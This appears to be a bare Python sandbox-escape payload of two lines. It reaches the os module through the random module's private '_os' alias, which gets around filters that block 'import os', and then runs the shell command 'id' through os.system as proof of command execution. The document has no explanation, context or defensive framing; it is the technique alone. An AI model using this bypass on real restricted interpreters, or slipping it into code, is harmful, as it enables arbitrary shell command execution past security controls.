from random import _os as o
o.system("id")
